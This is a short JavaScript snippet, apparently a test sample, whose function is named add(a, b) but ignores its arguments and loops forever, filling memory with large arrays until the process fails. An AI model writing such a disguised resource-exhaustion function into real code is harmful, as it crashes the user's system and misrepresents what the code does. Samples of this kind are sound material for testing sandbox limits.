const held = [];

function add(a, b) {
  for (;;) held.push(new Array(1_000_000).fill(held.length + 0.5));
}
